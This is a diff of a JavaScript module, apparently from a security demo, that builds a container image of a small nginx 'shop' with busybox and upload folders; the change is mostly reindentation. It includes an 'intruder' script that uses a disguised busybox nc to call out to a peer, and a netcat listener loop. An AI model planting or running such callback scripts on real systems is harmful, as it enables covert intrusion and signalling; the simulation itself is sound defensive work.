@@ -64,62 +64,61 @@ while true; do nc -l -p ${peerPort} > /dev/null; done
 const applets = ['sh', 'chmod', 'mv', 'wc', 'wget', 'usleep', 'stat', 'cat', 'nc', 'sleep'];
 /** The shop's image: Debian's nginx with the libraries it names, busybox, and the files above. Throws when nginx or its libraries cannot be read. */
 export async function shopImage(nginx, busybox) {
-    const libraries = await librariesOf(nginx);
-    const { stderr } = await promisify(execFile)(nginx, ['-v']);
-    const entries = [
-        ...folders([
-            'bin',
-            'etc/nginx',
-            'run',
-            'srv/www',
-            'tmp',
-            'usr/sbin',
-            'var/log/nginx',
-            'var/lib/nginx',
-            ...libraries.map(path => path.slice(1, path.lastIndexOf('/'))),
-        ]),
-        { kind: 'folder', path: 'srv/upload', mode: 0o755, uid: 33 },
-        { kind: 'folder', path: dropped.slice(1), mode: 0o755 },
-        { kind: 'folder', path: 'srv/tmp', mode: 0o755, uid: 33 },
-        { kind: 'file', path: 'usr/sbin/nginx', mode: 0o755, content: readFileSync(nginx) },
-        { kind: 'file', path: 'bin/busybox', mode: 0o755, content: readFileSync(busybox) },
-        ...libraries.map(path => ({ kind: 'file', path: path.slice(1), mode: 0o755, content: readFileSync(path) })),
-        ...applets.map(name => ({ kind: 'link', path: `bin/${name}`, target: 'busybox' })),
-        text('etc/passwd', 'root:x:0:0::/:/bin/sh\nwww-data:x:33:33::/srv:/bin/sh\n', 0o644),
-        text('etc/group', 'root:x:0:\nwww-data:x:33:\n', 0o644),
-        text('etc/nginx/nginx.conf', configuration, 0o644),
-        text('srv/www/index.html', '<h1>shop</h1>\n', 0o644),
-        text('entrypoint.sh', entrypoint, 0o755),
-        text('helper.sh', helper, 0o755),
-        text('client.sh', client, 0o755),
-        text('put.sh', put, 0o755),
-        text('peer.sh', peer, 0o755),
-        text('note.txt', 'a note of a customer\n', 0o644),
-    ];
-    return { archive: tar(entries), libraries: libraries.length, version: stderr.trim().replace(/^nginx version: nginx\//, '') };
+  const libraries = await librariesOf(nginx);
+  const { stderr } = await promisify(execFile)(nginx, ['-v']);
+  const entries = [
+    ...folders([
+      'bin',
+      'etc/nginx',
+      'run',
+      'srv/www',
+      'tmp',
+      'usr/sbin',
+      'var/log/nginx',
+      'var/lib/nginx',
+      ...libraries.map(path => path.slice(1, path.lastIndexOf('/'))),
+    ]),
+    { kind: 'folder', path: 'srv/upload', mode: 0o755, uid: 33 },
+    { kind: 'folder', path: dropped.slice(1), mode: 0o755 },
+    { kind: 'folder', path: 'srv/tmp', mode: 0o755, uid: 33 },
+    { kind: 'file', path: 'usr/sbin/nginx', mode: 0o755, content: readFileSync(nginx) },
+    { kind: 'file', path: 'bin/busybox', mode: 0o755, content: readFileSync(busybox) },
+    ...libraries.map(path => ({ kind: 'file', path: path.slice(1), mode: 0o755, content: readFileSync(path) })),
+    ...applets.map(name => ({ kind: 'link', path: `bin/${name}`, target: 'busybox' })),
+    text('etc/passwd', 'root:x:0:0::/:/bin/sh\nwww-data:x:33:33::/srv:/bin/sh\n', 0o644),
+    text('etc/group', 'root:x:0:\nwww-data:x:33:\n', 0o644),
+    text('etc/nginx/nginx.conf', configuration, 0o644),
+    text('srv/www/index.html', '<h1>shop</h1>\n', 0o644),
+    text('entrypoint.sh', entrypoint, 0o755),
+    text('helper.sh', helper, 0o755),
+    text('client.sh', client, 0o755),
+    text('put.sh', put, 0o755),
+    text('peer.sh', peer, 0o755),
+    text('note.txt', 'a note of a customer\n', 0o644),
+  ];
+  return { archive: tar(entries), libraries: libraries.length, version: stderr.trim().replace(/^nginx version: nginx\//, '') };
 }
 /** What the intruder uploads beside a copy of busybox named nc: it phones the peer. */
 export function intruderScript(address) {
-    return `#!/bin/sh\necho here | ${dropped}/nc -w 2 ${address} ${peerPort}\n`;
+  return `#!/bin/sh\necho here | ${dropped}/nc -w 2 ${address} ${peerPort}\n`;
 }
 function text(path, content, mode) {
-    return { kind: 'file', path, mode, content: Buffer.from(content) };
+  return { kind: 'file', path, mode, content: Buffer.from(content) };
 }
 /** Each folder with those above it, once, from the top. */
 function folders(paths) {
-    const all = new Set();
-    for (const path of paths) {
-        const parts = path.split('/');
-        for (let depth = 1; depth <= parts.length; depth += 1)
-            all.add(parts.slice(0, depth).join('/'));
-    }
-    return [...all].sort().map(path => ({ kind: 'folder', path, mode: path === 'tmp' ? 0o1777 : 0o755 }));
+  const all = new Set();
+  for (const path of paths) {
+    const parts = path.split('/');
+    for (let depth = 1; depth <= parts.length; depth += 1) all.add(parts.slice(0, depth).join('/'));
+  }
+  return [...all].sort().map(path => ({ kind: 'folder', path, mode: path === 'tmp' ? 0o1777 : 0o755 }));
 }
 /** The libraries and the loader that a program names, as absolute paths. */
 async function librariesOf(program) {
-    const { stdout } = await promisify(execFile)('ldd', [program]);
-    const found = [...stdout.matchAll(/(?:=> )?(\/\S+) \(0x/g)].map(match => match[1]);
-    if (found.length === 0 || /not found/.test(stdout))
-        throw new CliError(exit.failed, 'demo', `the libraries of ${program} cannot be told:\n${stdout}`);
-    return [...new Set(found)];
+  const { stdout } = await promisify(execFile)('ldd', [program]);
+  const found = [...stdout.matchAll(/(?:=> )?(\/\S+) \(0x/g)].map(match => match[1]);
+  if (found.length === 0 || /not found/.test(stdout))
+    throw new CliError(exit.failed, 'demo', `the libraries of ${program} cannot be told:\n${stdout}`);
+  return [...new Set(found)];
 }
